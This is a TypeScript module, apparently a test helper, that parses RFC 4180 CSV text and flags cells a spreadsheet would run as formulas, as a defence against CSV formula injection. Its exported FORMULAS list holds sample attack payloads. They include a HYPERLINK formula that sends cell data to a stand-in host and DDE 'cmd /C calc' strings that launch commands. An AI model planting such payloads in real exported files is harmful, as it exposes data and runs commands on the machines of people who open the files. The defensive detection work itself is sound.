// Reads CSV text (RFC 4180) and finds cells a spreadsheet would run as a formula (issue 13 item 6: CSV formula escaping).

/** The rows of RFC 4180 text (a leading BOM dropped; quoted cells may hold commas, quotes and line breaks). */
export function parseCsv(text: string): string[][] {
  const src = text.startsWith('\uFEFF') ? text.slice(1) : text;
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < src.length; i++) {
    const c = src[i]!;
    if (quoted) {
      if (c === '"' && src[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && src[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Cells that start like a formula (= + - @, tab, CR) and are not a plain number: what Excel or LibreOffice would evaluate. */
export function formulaCells(rows: readonly string[][]): string[] {
  return rows.flatMap((r, i) => r.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c)).map((c) => `row ${i}: ${JSON.stringify(c)}`));
}

/** Formula payloads as attackers write them. */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
